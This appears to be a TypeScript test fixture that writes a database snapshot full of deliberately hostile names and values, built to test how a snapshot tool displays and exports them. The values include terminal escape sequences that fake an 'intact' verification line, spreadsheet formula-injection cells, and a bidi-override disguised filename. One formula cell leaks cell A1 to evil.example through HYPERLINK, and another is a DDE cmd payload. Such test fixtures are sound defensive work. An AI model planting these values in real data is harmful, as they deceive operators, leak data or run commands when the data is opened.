// A complete, verifiable snapshot whose names and values are hostile to
// whatever prints them: a table name that rewrites the terminal line to claim
// "intact", values that carry ESC sequences, CR, bidi overrides and line
// breaks, and cells a spreadsheet would run as formulas. Written through the
// real SnapshotWriter.
import type { FleetInstance } from '../../shared/model/fleet.ts';
import type { SqlValue } from '../../shared/model/snapshot.ts';
import { SnapshotWriter } from '../../snapshots/file/writer.ts';
import { fixtureManifest } from './manifestInput.ts';

export const HOSTILE_INSTANCE = 'lab';
export const HOSTILE_DATABASE = 'shop';
/** Issue 9's table name: CR and "erase line" would let the output claim the file is intact, then hide the rest. */
export const HOSTILE_TABLE = 'x\r\u001b[2K…: intact. 41 tables verified\u001b[8m';
export const HOSTILE_TABLE_NAME = `${HOSTILE_INSTANCE}/${HOSTILE_DATABASE}/${HOSTILE_TABLE}`;
/** A column whose very name a spreadsheet would run. */
export const FORMULA_COLUMN = '=1+1';

/** The `note` column's values, row by row, and whether a spreadsheet would read each as a formula. */
export const HOSTILE_NOTES: { value: string; formula: boolean }[] = [
  { value: '=HYPERLINK("http://evil.example/?leak="&A1,"click")', formula: true },
  { value: '@SUM(1+1)*cmd|\' /C calc\'!A0', formula: true },
  { value: '+1+1', formula: true },
  { value: '-2+3', formula: true },
  { value: '\tleading tab', formula: true },
  { value: '\rleading CR', formula: true },
  { value: '-5', formula: false },
  { value: '+1.5e3', formula: false },
  { value: 'plain text', formula: false },
  { value: 'red \u001b[31mALERT\u001b[0m and a bell \u0007', formula: false },
  { value: 'file\u202egnp.exe', formula: false },
  { value: 'two\nlines', formula: false },
];

function instance(): FleetInstance {
  return {
    name: HOSTILE_INSTANCE,
    engine: 'mysql',
    domain: 'lab',
    connection: { host: '127.0.0.1', port: 3306, connectTimeoutMs: 10_000, statementTimeoutMs: 60_000 },
    databases: [HOSTILE_DATABASE],
    rawKeyNames: false,
    readValues: false,
  };
}

export async function writeHostileSnapshot(path: string): Promise<void> {
  const writer = await SnapshotWriter.open(path);
  try {
    const target = writer.instanceTarget(instance());
    target.setVersion('8.0.35');
    target.setConsistency('snapshot', null);
    const table = target.beginTable({
      database: HOSTILE_DATABASE,
      name: HOSTILE_TABLE,
      engineTableType: 'InnoDB',
      estimatedRows: HOSTILE_NOTES.length,
      dataBytes: 16384,
      indexBytes: 0,
      columns: [
        { name: 'id', declaredType: 'int', storage: 'integer', nullable: false, primaryKeyOrdinal: 1 },
        { name: 'note', declaredType: 'text', storage: 'text', nullable: true, primaryKeyOrdinal: null },
        { name: FORMULA_COLUMN, declaredType: 'int', storage: 'integer', nullable: true, primaryKeyOrdinal: null },
      ],
      indexes: [],
    });
    await table.sink.push(HOSTILE_NOTES.map((n, i): SqlValue[] => [i + 1, n.value, -i]));
    await table.finish({ rows: HOSTILE_NOTES.length, limited: false });
    writer.finishInstance(HOSTILE_INSTANCE);
    await writer.finish(fixtureManifest({ createdBy: 'mallory\u001b[2K', fleet: 'hostile' }));
  } catch (error) {
    await writer.abort();
    throw error;
  }
}
